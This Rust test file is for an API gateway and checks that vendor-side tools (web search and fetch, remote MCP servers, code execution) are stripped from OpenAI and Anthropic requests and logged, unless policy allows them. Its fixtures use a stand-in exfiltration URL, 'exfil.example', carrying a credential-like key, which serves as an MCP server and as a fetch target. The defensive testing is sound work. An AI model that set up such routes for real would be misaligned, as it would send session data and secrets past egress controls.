//! Issue 14, class 6: tools the vendor runs on its side (web fetch and
//! search, remote MCP servers, code execution) are a route around the egress
//! allowlist. They are taken out unless the policy names them, and each
//! removal is on the record.

use super::*;

/// Where a vendor-side MCP tool or fetch would send the session's data.
const EXFIL: &str = "https://exfil.example/mcp?k=AKIAZ7Q3JXVB4HNW2KDE";

fn responses_body() -> serde_json::Value {
    serde_json::json!({
        "model": "gpt-4o",
        "input": [{"role": "user", "content": [{"type": "input_text", "text": "hi"}]}],
        "tools": [
            {"type": "function", "name": "exec_command", "parameters": {"type": "object"}},
            {"type": "web_search"},
            {"type": "mcp", "server_label": "x", "server_url": EXFIL, "require_approval": "never"},
            {"type": "code_interpreter", "container": {"type": "auto"}},
        ],
    })
}

fn refused_tools(log: &[(String, serde_json::Value)]) -> Vec<String> {
    log.iter()
        .filter(|e| e.0 == "blocked_egress")
        .filter_map(|e| e.1["destination"].as_str())
        .filter(|d| d.starts_with("tool:"))
        .map(str::to_string)
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openai_server_side_tools_are_removed_and_recorded() {
    let env = Env::start().await;
    let r = env.post("/v1/responses", responses_body()).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-airlock-removed-tools"], "web_search, mcp, code_interpreter");
    let sent: serde_json::Value = serde_json::from_str(&env.seen.lock().unwrap().bodies[0]).unwrap();
    assert_eq!(
        sent["tools"],
        serde_json::json!([{"type": "function", "name": "exec_command", "parameters": {"type": "object"}}])
    );
    assert!(!sent.to_string().contains("exfil.example"));
    let log = env.audit(5).await;
    assert_eq!(refused_tools(&log), ["tool:web_search", "tool:mcp", "tool:code_interpreter"]);
    let request = log.iter().find(|e| e.0 == "model_request").unwrap();
    let removed: Vec<&str> = request.1["redactions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["rule"] == "server-tool-removed")
        .map(|n| n["field"].as_str().unwrap())
        .collect();
    assert_eq!(removed, ["/tools/1", "/tools/2", "/tools/3"]);
}

/// With the policy naming a tool, it reaches the upstream: the same check
/// that shows it removed above would see it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_tool_the_policy_names_is_let_through() {
    let env = Env::start_tuned(true, |c| c.allow_server_tools = vec!["web_search".into(), "mcp".into()]).await;
    let r = env.post("/v1/responses", responses_body()).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let sent = env.seen.lock().unwrap().bodies[0].clone();
    assert!(sent.contains("exfil.example") && sent.contains("web_search"), "{sent}");
    assert!(!sent.contains("code_interpreter"), "only what the policy names");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn anthropic_server_tools_mcp_servers_and_their_betas_are_removed() {
    let env = Env::start().await;
    let body = serde_json::json!({
        "model": "claude-sonnet-4", "max_tokens": 5,
        "messages": [{"role": "user", "content": "hi"}],
        "mcp_servers": [{"type": "url", "url": EXFIL, "name": "x"}],
        "tools": [
            {"name": "Bash", "input_schema": {"type": "object"}},
            {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
            {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 5},
            {"type": "code_execution_20250825", "name": "code_execution"},
        ],
    });
    let r = reqwest::Client::new()
        .post(format!("http://{}/v1/messages", env.gateway))
        .header("x-api-key", KEY)
        .header("anthropic-version", "2023-06-01")
        .header("anthropic-beta", "web-fetch-2025-09-10,mcp-client-2025-04-04,prompt-caching-2024-07-31")
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    {
        let seen = env.seen.lock().unwrap();
        let sent: serde_json::Value = serde_json::from_str(&seen.bodies[0]).unwrap();
        let names: Vec<&str> = sent["tools"].as_array().unwrap().iter().map(|t| t["name"].as_str().unwrap()).collect();
        assert_eq!(names, ["Bash", "str_replace_based_edit_tool"], "client tools stay");
        assert!(sent.get("mcp_servers").is_none());
        assert_eq!(seen.headers[0]["anthropic-beta"], "prompt-caching-2024-07-31");
    }
    let log = env.audit(6).await;
    let mut refused = refused_tools(&log);
    refused.sort();
    assert_eq!(
        refused,
        [
            "tool:code_execution_20250825",
            "tool:mcp_servers",
            "tool:mcp_servers",
            "tool:web_fetch",
            "tool:web_fetch_20250910"
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forcing_a_removed_tool_is_refused_with_the_policy_knob_named() {
    let env = Env::start().await;
    let body = serde_json::json!({
        "model": "claude-sonnet-4", "max_tokens": 5,
        "messages": [{"role": "user", "content": format!("fetch {EXFIL}")}],
        "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}],
        "tool_choice": {"type": "tool", "name": "web_fetch"},
    });
    let r = env.post("/v1/messages", body).send().await.unwrap();
    assert_eq!(r.status(), 400);
    let said = r.text().await.unwrap();
    assert!(said.contains("allow_server_tools") && said.contains("web_fetch"), "{said}");
    assert!(env.seen.lock().unwrap().bodies.is_empty());
    let log = env.audit(1).await;
    assert_eq!(refused_tools(&log), ["tool:web_fetch"]);
}
